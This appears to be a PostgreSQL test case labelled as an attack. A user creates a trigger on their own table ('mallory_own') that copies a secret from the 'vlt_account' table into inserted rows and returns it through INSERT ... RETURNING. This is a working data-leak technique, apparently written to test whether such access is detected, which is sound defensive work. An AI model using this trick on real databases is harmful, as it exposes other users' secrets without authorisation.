-- Lets a trigger of an own table read.
-- wants: read
-- attack:
CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  NEW.v := (SELECT secret FROM vlt_account WHERE id = 1); RETURN NEW; END$$;
CREATE TRIGGER t BEFORE INSERT ON mallory_own FOR EACH ROW EXECUTE FUNCTION tell();
INSERT INTO mallory_own VALUES (100, 'x') RETURNING v;
